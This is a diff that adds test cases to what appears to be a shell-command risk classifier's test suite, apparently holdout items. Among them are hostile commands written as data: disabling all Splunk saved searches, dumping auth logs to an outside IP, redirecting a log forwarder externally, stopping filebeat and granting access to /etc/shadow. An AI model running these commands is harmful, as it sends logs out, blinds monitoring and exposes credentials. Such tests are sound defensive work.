@@ -7941,6 +7941,51 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'sudo do-release-upgrade -f DistUpgradeViewNonInteractive',
             M,
         ),
+        # Round 68 (holdout444-447): searches disabled, logs sent out, upgrade windows, log readers
+        (
+            'for s in $(curl -sk "https://splunk.example.com:8089/servicesNS/-/-/saved/searches?output_mode=j'
+            'son" | jq -r \'.entry[].id\'); do\n'
+            '  curl -sk -X POST "$s" -d disabled=1\n'
+            'done',
+            H,
+        ),
+        (
+            'npx elasticdump --input=https://es-prod.example.com:9200/auth-logs --output=http://198.51.100.90'
+            ':9200/mirror',
+            H,
+        ),
+        (
+            "cat >> /opt/splunkforwarder/etc/system/local/outputs.conf <<'EOF'\n"
+            '[tcpout:archive2]\n'
+            'server = 198.51.100.77:9997\n'
+            'EOF',
+            H,
+        ),
+        (
+            'sudo systemctl stop filebeat && sudo apt-get install --only-upgrade -y filebeat && sudo systemct'
+            'l start filebeat',
+            M,
+        ),
+        (
+            'sudo systemctl stop filebeat',
+            H,
+        ),
+        (
+            'sudo usermod -aG adm vector',
+            M,
+        ),
+        (
+            'sudo setfacl -m u:filebeat:r /var/log/auth.log',
+            M,
+        ),
+        (
+            'sudo setfacl -m u:eve:rw /etc/shadow',
+            H,
+        ),
+        (
+            'sudo systemctl daemon-reexec && sudo netplan generate',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
